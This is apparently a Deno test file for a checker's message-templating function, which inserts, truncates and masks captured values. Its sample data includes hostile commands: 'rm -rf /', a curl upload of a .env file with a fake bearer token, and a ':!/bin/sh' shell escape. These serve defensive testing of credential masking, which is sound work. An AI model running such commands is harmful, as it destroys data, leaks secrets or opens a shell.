import assert from "node:assert/strict";
import { interpolate } from "./checker.ts";

Deno.test("interpolate inserts captures, truncates long ones, and blanks missing ones", () => {
  assert.equal(
    interpolate("`{{command}}` deletes {{path}}.", { command: "rm -rf /", path: "/" }),
    "`rm -rf /` deletes /.",
  );
  assert.equal(
    interpolate("deletes {{ path }} now", { path: "x".repeat(300) }),
    `deletes ${"x".repeat(197)}... now`,
  );
  assert.equal(
    interpolate("deletes {{path}}, then {{what}}.", { what: "more" }),
    "deletes, then more.",
  );
});

Deno.test("interpolate masks a credential carried by a capture", () => {
  const message = interpolate("`{{command}}` uploads {{file}}", {
    command: "curl -H 'Authorization: Bearer ghp_abcdefghijklmnopqrstuvwxyz0123' -F f=@.env x",
    file: ".env",
  });
  assert.ok(!message.includes("abcdefghijklmnopqrstuvwxyz0123"), message);
  assert.ok(message.includes("uploads .env"));
});

Deno.test("interpolate keeps a value's own spacing and a space before a value like .env", () => {
  assert.equal(
    interpolate("stages {{file}} with {{command}}", { file: ".env", command: "git  add .env" }),
    "stages .env with git  add .env",
  );
  assert.equal(interpolate("{{missing}} deletes {{path}} {{none}}.", { path: "/" }), "deletes /.");
});

Deno.test("interpolate closes a missing capture's gap next to brackets and quotes", () => {
  assert.equal(interpolate("a shell ({{x}}{{y}})", { y: ":!/bin/sh" }), "a shell (:!/bin/sh)");
  assert.equal(interpolate("runs `{{a}} {{b}}` now", { a: "rm" }), "runs `rm` now");
});
